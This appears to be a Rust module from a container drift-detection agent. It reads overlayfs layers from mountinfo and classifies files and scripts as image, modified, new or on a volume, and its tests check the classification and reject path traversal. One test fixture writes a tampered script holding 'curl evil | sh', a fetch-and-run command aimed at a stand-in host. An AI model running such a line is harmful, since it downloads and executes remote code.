//! The overlayfs layers behind a container's root, read from mountinfo, to
//! tell an image binary that was only `chmod`ed or `touch`ed (overlayfs copied
//! it up unchanged: not drift) from one whose content changed, and both from a
//! new file. This is the most common false positive of drift detection.
//!
//! Paths here are the kernel's bytes (`crate::escape::path` of an event's
//! name), not text: a file whose name is not UTF-8 is found all the same.

use crate::event::ExeSource;
use std::{
    ffi::OsString,
    fs::File,
    io::{self, Read},
    os::unix::ffi::OsStringExt,
    path::{Component, Path, PathBuf},
};

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OverlayDirs {
    pub upper: PathBuf,
    /// Top-most first, as overlayfs searches them.
    pub lowers: Vec<PathBuf>,
}

impl OverlayDirs {
    /// `path` (as the container sees it) exists in one of the image's layers.
    pub fn in_image(&self, path: &Path) -> bool {
        let rel = path.strip_prefix("/").unwrap_or(path);
        self.lowers.iter().any(|l| host_path(&l.join(rel)).exists())
    }
}

/// `path` relative to the container's root, when it is a plain one: not
/// empty, no `..` (nothing outside the layer is ever opened).
fn layer_relative(path: &Path) -> Option<&Path> {
    let rel = path.strip_prefix("/").ok()?;
    let plain = !rel.as_os_str().is_empty() && !rel.components().any(|c| c == Component::ParentDir);
    plain.then_some(rel)
}

/// What an upper-layer file is, compared with the image.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyUp {
    /// Not in any image layer: written in the container.
    NewFile,
    /// An image file whose content changed.
    ImageFileModified,
    /// An image file copied up with the same content (chmod, chown, touch).
    ImageFileUnchanged,
    /// The layers could not be read; treat as drift.
    Unknown,
}

impl CopyUp {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::NewFile => "new_file",
            Self::ImageFileModified => "image_file_modified",
            Self::ImageFileUnchanged => "image_file_unchanged",
            Self::Unknown => "unknown",
        }
    }
}

/// Undoes mountinfo's octal escapes (`\040` for a space, ...): the bytes.
fn unescape(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' && i + 3 < b.len() && b[i + 1..i + 4].iter().all(|c| (b'0'..=b'7').contains(c)) {
            let v = (b[i + 1] - b'0') * 64 + (b[i + 2] - b'0') * 8 + (b[i + 3] - b'0');
            out.push(v);
            i += 4;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    out
}

fn path_of(bytes: Vec<u8>) -> PathBuf {
    PathBuf::from(OsString::from_vec(bytes))
}

/// A mountinfo file as text for the parsers: its bytes that are not UTF-8
/// written the way mountinfo writes the bytes it escapes itself (`\377`), so
/// [`unescape`] gives every path back byte for byte. (Its own backslashes are
/// all escapes already: the kernel writes a literal one as `\134`.)
pub fn mountinfo_text(bytes: Vec<u8>) -> String {
    match String::from_utf8(bytes) {
        Ok(s) => s,
        Err(e) => {
            let mut out = String::with_capacity(e.as_bytes().len() + 16);
            for chunk in e.as_bytes().utf8_chunks() {
                out.push_str(chunk.valid());
                for b in chunk.invalid() {
                    out.push_str(&format!("\\{b:03o}"));
                }
            }
            out
        }
    }
}

/// The overlay directories of the root mount in a mountinfo text.
pub fn root_overlay_from_mountinfo(text: &str) -> Option<OverlayDirs> {
    for line in text.lines() {
        let (pre, post) = line.split_once(" - ")?;
        let mount_point = pre.split(' ').nth(4)?;
        if mount_point != "/" {
            continue;
        }
        let mut post = post.split(' ');
        if post.next()? != "overlay" {
            return None;
        }
        let opts = post.nth(1)?;
        let (mut upper, mut lowers) = (None, Vec::new());
        for opt in opts.split(',') {
            if let Some(u) = opt.strip_prefix("upperdir=") {
                upper = Some(path_of(unescape(u)));
            } else if let Some(l) = opt.strip_prefix("lowerdir=") {
                // ':' separates layers; overlayfs escapes a literal one as "\:".
                let l = unescape(l);
                let mut cur = Vec::new();
                let mut bytes = l.iter().copied().peekable();
                while let Some(c) = bytes.next() {
                    match c {
                        b'\\' if bytes.peek() == Some(&b':') => {
                            cur.push(b':');
                            bytes.next();
                        }
                        b':' => lowers.push(path_of(std::mem::take(&mut cur))),
                        c => cur.push(c),
                    }
                }
                if !cur.is_empty() {
                    lowers.push(path_of(cur));
                }
            }
        }
        return Some(OverlayDirs { upper: upper?, lowers });
    }
    None
}

/// What the agent knows of a container's filesystem: its overlay layers and
/// the mount points of its volumes.
#[derive(Debug, Default)]
pub struct ContainerFs {
    pub overlay: Option<OverlayDirs>,
    /// Mount points other than the root and kernel filesystems, longest first.
    pub volumes: Vec<PathBuf>,
    /// Those of `volumes` the kubelet writes atomically (Secret, ConfigMap, ...).
    pub config_volumes: Vec<PathBuf>,
}

impl ContainerFs {
    /// `path` (as the container sees it) is on a volume.
    pub fn on_volume(&self, path: &Path) -> bool {
        // Whole components: /data/x is under /data, /datax is not.
        self.volumes.iter().any(|m| path.starts_with(m))
    }

    /// `path` is on a Secret/ConfigMap/projected volume (normally read-only).
    pub fn on_config_volume(&self, path: &Path) -> bool {
        self.config_volumes.iter().any(|m| path.starts_with(m))
    }
}

/// Mount points of volumes in a mountinfo text (not /, /proc, /dev, /sys).
pub fn volumes_from_mountinfo(text: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = text
        .lines()
        .filter_map(|l| {
            let (pre, post) = l.split_once(" - ")?;
            let mp = pre.split(' ').nth(4)?;
            let fstype = post.split(' ').next()?;
            let kernel = ["proc", "sysfs", "devpts", "mqueue", "cgroup", "cgroup2", "devtmpfs"].contains(&fstype)
                || mp == "/"
                || mp.starts_with("/proc")
                || mp.starts_with("/sys")
                || mp == "/dev"
                || mp.starts_with("/dev/");
            (!kernel).then(|| path_of(unescape(mp)))
        })
        .collect();
    v.sort_by_key(|m| std::cmp::Reverse(m.as_os_str().len()));
    v
}

/// The filesystem of the container `pid` runs in, from its mountinfo; `None`
/// when that cannot be read (the process is gone).
pub fn container_fs_of(pid: u32) -> Option<ContainerFs> {
    let text = mountinfo_text(std::fs::read(format!("/proc/{pid}/mountinfo")).ok()?);
    let volumes = volumes_from_mountinfo(&text);
    // One readlink per volume, once per container: the atomic writer's layout.
    let root = PathBuf::from(format!("/proc/{pid}/root"));
    let config_volumes = volumes
        .iter()
        .filter(|m| super::atomic_volume::payload_of(&root.join(m.strip_prefix("/").unwrap_or(m))).is_some())
        .cloned()
        .collect();
    Some(ContainerFs { overlay: root_overlay_from_mountinfo(&text), volumes, config_volumes })
}

/// A host path as this agent can open it: directly when it runs in the host's
/// mount namespace, else through the host root (/proc/1/root, with hostPID).
fn host_path(p: &Path) -> PathBuf {
    if p.exists() {
        return p.to_path_buf();
    }
    Path::new("/proc/1/root").join(p.strip_prefix("/").unwrap_or(p))
}

/// Files larger than this are not compared byte by byte (treated as modified).
const MAX_COMPARE: u64 = 256 << 20;

fn same_content(a: &Path, b: &Path) -> io::Result<bool> {
    let (mut fa, mut fb) = (File::open(a)?, File::open(b)?);
    let (la, lb) = (fa.metadata()?.len(), fb.metadata()?.len());
    if la != lb || la > MAX_COMPARE {
        return Ok(false);
    }
    let (mut ba, mut bb) = (vec![0u8; 64 << 10], vec![0u8; 64 << 10]);
    loop {
        let n = fa.read(&mut ba)?;
        if n == 0 {
            return Ok(true);
        }
        fb.read_exact(&mut bb[..n])?;
        if ba[..n] != bb[..n] {
            return Ok(false);
        }
    }
}

/// Compares the upper-layer copy of `path` (as the container sees it) with
/// the image's.
pub fn classify_copy_up(dirs: &OverlayDirs, path: &Path) -> CopyUp {
    let Some(rel) = layer_relative(path) else { return CopyUp::Unknown };
    let upper = host_path(&dirs.upper.join(rel));
    let Some(lower) = dirs.lowers.iter().map(|l| host_path(&l.join(rel))).find(|p| p.is_file()) else {
        return if upper.exists() { CopyUp::NewFile } else { CopyUp::Unknown };
    };
    match same_content(&upper, &lower) {
        Ok(true) => CopyUp::ImageFileUnchanged,
        Ok(false) => CopyUp::ImageFileModified,
        Err(_) => CopyUp::Unknown,
    }
}

/// Where a `#!` script lives, judged here because the kernel has released the
/// script's file when `sched_process_exec` fires. `path` is as the container
/// sees it (absolute): on a volume (`Volume`), an image file never changed
/// (`Image`), a new file or an image file whose content changed on the
/// writable layer (`UpperLayer`, drift), else `Unknown`. An image script that
/// was only chmod'ed or touched (copied up unchanged) is `Image`.
pub fn script_source(fs: &ContainerFs, path: &Path) -> ExeSource {
    if fs.on_volume(path) {
        return ExeSource::Volume;
    }
    let Some(dirs) = &fs.overlay else { return ExeSource::Unknown };
    let Some(rel) = layer_relative(path) else { return ExeSource::Unknown };
    if host_path(&dirs.upper.join(rel)).is_file() {
        return match classify_copy_up(dirs, path) {
            CopyUp::NewFile | CopyUp::ImageFileModified => ExeSource::UpperLayer,
            CopyUp::ImageFileUnchanged => ExeSource::Image,
            CopyUp::Unknown => ExeSource::Unknown,
        };
    }
    if dirs.in_image(path) { ExeSource::Image } else { ExeSource::Unknown }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::ffi::OsStrExt;

    const MI: &str = "73 48 0:40 / / rw,relatime - overlay overlay rw,lowerdir=/s/3/fs:/s/2\\:x/fs:/s/1/fs,upperdir=/s/9/fs,workdir=/s/9/work\n\
                      74 73 0:41 / /proc rw,nosuid - proc proc rw\n";

    #[test]
    fn parses_root_overlay() {
        let d = root_overlay_from_mountinfo(MI).unwrap();
        assert_eq!(d.upper, PathBuf::from("/s/9/fs"));
        assert_eq!(d.lowers, vec![PathBuf::from("/s/3/fs"), PathBuf::from("/s/2:x/fs"), PathBuf::from("/s/1/fs")]);
        assert!(root_overlay_from_mountinfo("73 48 0:40 / / rw - ext4 /dev/vda rw\n").is_none());
        assert!(root_overlay_from_mountinfo("garbage").is_none());
        assert!(root_overlay_from_mountinfo("").is_none());
        assert_eq!(unescape("a\\040b"), b"a b");
    }

    #[test]
    fn mount_paths_that_are_not_utf8_are_kept_byte_for_byte() {
        let mut mi =
            b"73 48 0:40 / / rw - overlay overlay rw,lowerdir=/l\xff,upperdir=/u\\040\xfe,workdir=/w\n".to_vec();
        mi.extend_from_slice(b"76 73 0:43 / /scr\xffatch\\040x rw - tmpfs tmpfs rw\n");
        let text = mountinfo_text(mi);
        let d = root_overlay_from_mountinfo(&text).unwrap();
        assert_eq!(d.lowers, vec![path_of(b"/l\xff".to_vec())]);
        assert_eq!(d.upper, path_of(b"/u \xfe".to_vec()));
        let v = volumes_from_mountinfo(&text);
        assert_eq!(v, vec![path_of(b"/scr\xffatch x".to_vec())]);
        let fs = ContainerFs { overlay: None, volumes: v, config_volumes: vec![] };
        assert!(fs.on_volume(&crate::escape::path("/scr\\xffatch x/run.sh", true)));
        assert!(!fs.on_volume(Path::new("/scr\u{fffd}atch x/run.sh")));
        assert_eq!(mountinfo_text(b"plain".to_vec()), "plain");
    }

    #[test]
    fn volumes_exclude_root_and_kernel_filesystems() {
        let mi = "73 48 0:40 / / rw - overlay overlay rw,lowerdir=/l,upperdir=/u,workdir=/w\n\
                  74 73 0:41 / /proc rw - proc proc rw\n\
                  75 73 0:42 / /dev rw - tmpfs tmpfs rw\n\
                  76 73 0:43 / /scratch rw - tmpfs tmpfs rw\n\
                  77 73 8:1 /data /var/lib/app/data rw - ext4 /dev/vda rw\n";
        assert_eq!(volumes_from_mountinfo(mi), vec![PathBuf::from("/var/lib/app/data"), PathBuf::from("/scratch")]);
    }

    #[test]
    fn copy_up_kinds() {
        let root = std::env::temp_dir().join(format!("dw-ovl-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let (up, lo) = (root.join("upper"), root.join("lower"));
        for d in [&up, &lo] {
            std::fs::create_dir_all(d.join("bin")).unwrap();
        }
        std::fs::write(lo.join("bin/same"), b"ELF same").unwrap();
        std::fs::write(up.join("bin/same"), b"ELF same").unwrap();
        std::fs::write(lo.join("bin/changed"), b"ELF one").unwrap();
        std::fs::write(up.join("bin/changed"), b"ELF two").unwrap();
        std::fs::write(up.join("bin/new"), b"ELF new").unwrap();
        let d = OverlayDirs { upper: up, lowers: vec![lo] };
        assert_eq!(classify_copy_up(&d, Path::new("/bin/same")), CopyUp::ImageFileUnchanged);
        assert_eq!(classify_copy_up(&d, Path::new("/bin/changed")), CopyUp::ImageFileModified);
        assert_eq!(classify_copy_up(&d, Path::new("/bin/new")), CopyUp::NewFile);
        assert_eq!(classify_copy_up(&d, Path::new("/bin/missing")), CopyUp::Unknown);
        assert_eq!(classify_copy_up(&d, Path::new("/../etc/passwd")), CopyUp::Unknown);
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn script_sources() {
        let root = std::env::temp_dir().join(format!("dw-ovl-script-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let (up, lo) = (root.join("upper"), root.join("lower"));
        for d in [&up, &lo] {
            std::fs::create_dir_all(d.join("bin")).unwrap();
        }
        std::fs::write(lo.join("bin/image.sh"), b"#!/bin/sh\n").unwrap();
        std::fs::write(lo.join("bin/touched.sh"), b"#!/bin/sh\n").unwrap();
        std::fs::write(up.join("bin/touched.sh"), b"#!/bin/sh\n").unwrap();
        std::fs::write(lo.join("bin/edited.sh"), b"#!/bin/sh\n").unwrap();
        std::fs::write(up.join("bin/edited.sh"), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        std::fs::write(up.join("bin/dropped.sh"), b"#!/bin/sh\n").unwrap();
        let fs = ContainerFs {
            overlay: Some(OverlayDirs { upper: up, lowers: vec![lo] }),
            volumes: vec!["/data".into()],
            config_volumes: vec![],
        };
        // A script whose name is not UTF-8 is found by its bytes.
        let bad = std::ffi::OsStr::from_bytes(b"bin/bad\xff.sh");
        std::fs::write(fs.overlay.as_ref().unwrap().upper.join(bad), b"#!/bin/sh\n").unwrap();
        assert_eq!(script_source(&fs, &crate::escape::path("/bin/bad\\xff.sh", true)), ExeSource::UpperLayer);
        assert_eq!(script_source(&fs, Path::new("/bin/image.sh")), ExeSource::Image);
        assert_eq!(script_source(&fs, Path::new("/bin/touched.sh")), ExeSource::Image, "copied up unchanged");
        assert_eq!(script_source(&fs, Path::new("/bin/edited.sh")), ExeSource::UpperLayer);
        assert_eq!(script_source(&fs, Path::new("/bin/dropped.sh")), ExeSource::UpperLayer);
        assert_eq!(script_source(&fs, Path::new("/data/run.sh")), ExeSource::Volume);
        assert_eq!(script_source(&fs, Path::new("/datax/run.sh")), ExeSource::Unknown);
        assert_eq!(script_source(&fs, Path::new("/bin/../bin/dropped.sh")), ExeSource::Unknown);
        assert_eq!(script_source(&fs, Path::new("bin/dropped.sh")), ExeSource::Unknown);
        assert_eq!(script_source(&ContainerFs::default(), Path::new("/bin/image.sh")), ExeSource::Unknown);
        let _ = std::fs::remove_dir_all(&root);
    }
}
